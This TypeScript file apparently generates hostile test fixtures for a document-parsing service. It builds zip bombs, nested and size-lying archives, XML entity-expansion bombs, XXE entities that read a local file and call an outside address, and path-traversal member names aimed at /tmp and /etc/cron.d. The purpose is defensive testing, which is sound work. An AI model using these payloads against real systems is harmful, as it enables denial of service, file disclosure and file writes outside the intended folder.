import { crc32, deflateRawSync } from 'node:zlib';

import type { HostileFile, HostileMeans } from './hostile-files.ts';

interface Member {
  readonly name: string;
  readonly content: Buffer | string;
  /** What the archive says instead of the real size. */
  readonly statedSize?: number;
  /** Default: deflate. */
  readonly method?: number;
  readonly flags?: number;
}

/** A zip archive whose entries may lie. */
export function zipOf(members: readonly Member[]): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const member of members) {
    const { local, entry } = memberOf(member, offset);
    locals.push(local);
    directory.push(entry);
    offset += local.length;
  }
  return Buffer.concat([...locals, ...directory, endOf(directory, members.length, offset)]);
}

function memberOf(
  { name, content, statedSize, method = 8, flags = 0 }: Member,
  offset: number,
): { readonly local: Buffer; readonly entry: Buffer } {
  const bytes = Buffer.from(content as Buffer);
  const coded = method === 8 ? deflateRawSync(bytes) : bytes;
  const path = Buffer.from(name);
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt16LE(flags, 2);
  common.writeUInt16LE(method, 4);
  common.writeUInt32LE(crc32(bytes), 10);
  common.writeUInt32LE(coded.length, 14);
  common.writeUInt32LE(statedSize ?? bytes.length, 18);
  common.writeUInt16LE(path.length, 22);
  const place = Buffer.alloc(14);
  place.writeUInt32LE(offset, 10);
  return {
    local: Buffer.concat([Buffer.from('PK\u0003\u0004'), common, path, coded]),
    entry: Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), common, place, path]),
  };
}

function endOf(directory: readonly Buffer[], members: number, offset: number): Buffer {
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006');
  end.writeUInt16LE(Math.min(members, 0xff_fe), 8);
  end.writeUInt16LE(Math.min(members, 0xff_fe), 10);
  end.writeUInt32LE(
    directory.reduce((sum, { length }) => sum + length, 0),
    12,
  );
  end.writeUInt32LE(offset, 16);
  return end;
}

const types = (part: string, kind: string): Member => ({
  name: '[Content_Types].xml',
  content: `<Types><Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`,
});
const word = types('word/document.xml', 'wordprocessingml.document');
const sheet = types('xl/workbook.xml', 'spreadsheetml.sheet');
const megabyte = 1024 ** 2;
const body = (inner: string): string => `<w:document><w:body>${inner}</w:body></w:document>`;

const office = (name: string, members: readonly Member[]): HostileFile => ({
  name,
  mediaType: 'application/octet-stream',
  bytes: zipOf(members),
});
const docx = (name: string, document: Omit<Member, 'name'>, more: readonly Member[] = []): HostileFile =>
  office(`${name}.docx`, [word, { name: 'word/document.xml', ...document }, ...more]);
const xlsx = (name: string, members: readonly Member[]): HostileFile =>
  office(`${name}.xlsx`, [sheet, { name: 'xl/workbook.xml', content: '<workbook/>' }, ...members]);

/** Office files and archives that unpack to far more than they are, lie about it, or try to leave a folder. */
export function hostileArchives({ canary, address, withBombs }: HostileMeans): readonly HostileFile[] {
  const small = [...entityBombs(canary, address), ...brokenArchives(canary)];
  return withBombs ? [...small, ...zipBombs(), ...sheetBombs()] : small;
}

function zipBombs(): readonly HostileFile[] {
  const blank = Buffer.alloc(150 * megabyte, ' ');
  let nested = zipOf([{ name: 'word/document.xml', content: blank }]);
  for (let depth = 0; depth < 20; depth += 1)
    nested = zipOf([word, { name: `${depth}.docx`, content: nested }]);
  return [
    docx('a hundred and fifty megabytes', { content: blank }),
    docx('a hundred and fifty megabytes stated as ten bytes', { content: blank, statedSize: 10 }),
    docx('a hundred and fifty megabytes stated as sixty', { content: blank, statedSize: 60 * megabyte }),
    docx('stated as four gigabytes', { content: body('short'), statedSize: 0xff_ff_ff_fe }),
    docx('sixty megabytes of text', { content: body(`<w:t>${'text '.repeat(12 * megabyte)}</w:t>`) }),
    docx('sixty megabytes of open elements', { content: '<w:p>'.repeat(12 * megabyte) }),
    docx('sixty megabytes of attributes', { content: `<w:p ${'a="" '.repeat(12 * megabyte)}>` }),
    docx('sixty megabytes of less-than signs', { content: '<'.repeat(60 * megabyte) }),
    docx(
      'parts that are large together',
      { content: body('short') },
      Array.from({ length: 40 }, (_, index) => ({
        name: `word/header${index}.xml`,
        content: blank.subarray(0, 10 * megabyte),
      })),
    ),
    { name: 'twenty archives in each other.docx', mediaType: 'application/zip', bytes: nested },
    office('sixty thousand members.docx', [
      word,
      ...Array.from({ length: 60_000 }, (_, index) => ({ name: `word/header${index}.xml`, content: '' })),
    ]),
  ];
}

/** Entities that grow, and those that name a file or an address. */
function entityBombs(canary: string, address: string): readonly HostileFile[] {
  const laughs = Array.from(
    { length: 12 },
    (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`,
  ).join('');
  const growing = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "lol">${laughs}]>`;
  const quadratic = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e "${'x'.repeat(megabyte)}">]>`;
  const outside = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f SYSTEM "file://${canary}"><!ENTITY h SYSTEM "${address}/entity"><!ENTITY % p SYSTEM "${address}/parameter"> %p;]>`;
  const text = (entity: string): string => `<text:p>${entity}</text:p>`;
  const odt = (name: string, content: string): HostileFile =>
    office(`${name}.odt`, [
      { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 },
      { name: 'content.xml', content },
    ]);
  return [
    docx('entities that grow', { content: growing + body('<w:t>&e12;</w:t>') }),
    docx('a large entity many times', { content: quadratic + body(`<w:t>${'&e;'.repeat(100_000)}</w:t>`) }),
    docx('entities outside', { content: outside + body('<w:t>&f;&h;</w:t>') }, [
      {
        name: 'word/_rels/document.xml.rels',
        content: `<Relationships><Relationship Id="r" Type="attachedTemplate" Target="${address}/template" TargetMode="External"/></Relationships>`,
      },
    ]),
    odt('entities that grow', growing + text('&e12;')),
    odt('entities outside', outside + text('&f;&h;')),
    odt(
      'elements without end',
      text('')
        .slice(0, 7)
        .repeat(2 * megabyte),
    ),
  ];
}

function brokenArchives(canary: string): readonly HostileFile[] {
  const names = [
    '../../../../../../tmp/escaped',
    canary,
    '/etc/cron.d/escaped',
    String.raw`..\..\..\escaped`,
    'word/document.xml\u0000.txt',
    '__proto__',
    `word/${'a'.repeat(60_000)}.xml`,
    'CON',
  ];
  const plain = zipOf([word, { name: 'word/document.xml', content: body('<w:t>x</w:t>') }]);
  const changed = (name: string, change: (bytes: Buffer) => Buffer): HostileFile => ({
    name: `${name}.docx`,
    mediaType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    bytes: change(Buffer.from(plain)),
  });
  const end = plain.length - 22;
  const directory = plain.readUInt32LE(end + 16);
  const written = (offset: number, value: number) => (bytes: Buffer) => {
    bytes.writeUInt32LE(value, offset);
    return bytes;
  };
  return [
    docx(
      'names that leave a folder',
      { content: body('<w:t>inside</w:t>') },
      names.map((name) => ({ name, content: 'escaped' })),
    ),
    docx('an unknown method', { content: 'x', method: 99 }),
    docx('encrypted members', { content: 'x', flags: 1 }),
    changed('a directory at the end', written(end + 16, end)),
    changed('a directory beyond the end', written(end + 16, 0xff_ff_ff_f0)),
    changed('a directory of zip64', written(end + 16, 0xff_ff_ff_ff)),
    changed('members that are the directory', written(directory + 42, directory)),
    changed('coded bytes beyond the end', written(directory + 20, 0x7f_ff_ff_ff)),
    changed('no end', (bytes) => bytes.subarray(0, end)),
    changed('sixty-four thousand members that do not exist', (bytes) => {
      bytes.writeUInt16LE(0xff_fe, end + 8);
      bytes.writeUInt16LE(0xff_fe, end + 10);
      return bytes;
    }),
  ];
}

function sheetBombs(): readonly HostileFile[] {
  const strings = (text: string): Member => ({
    name: 'xl/sharedStrings.xml',
    content: `<sst><si><t>${text}</t></si></sst>`,
  });
  const cells = (value: string, count: number): Member => ({
    name: 'xl/worksheets/sheet1.xml',
    content: `<sheetData><row>${`<c t="s"><v>${value}</v></c>`.repeat(count)}</row></sheetData>`,
  });
  return [
    xlsx('a large string in every cell', [strings('x'.repeat(10 * megabyte)), cells('0', 500_000)]),
    xlsx('strings that do not exist', [strings('x'), cells('99999999999999999999', 1_000)]),
    xlsx('two million cells', [strings('x'), cells('0', 2_000_000)]),
    xlsx('thirty thousand sheets', manySheets()),
  ];
}

function manySheets(): readonly Member[] {
  return Array.from({ length: 30_000 }, (_, index) => ({
    name: `xl/worksheets/sheet${index}.xml`,
    content: '<row><c><v>1</v></c></row>',
  }));
}
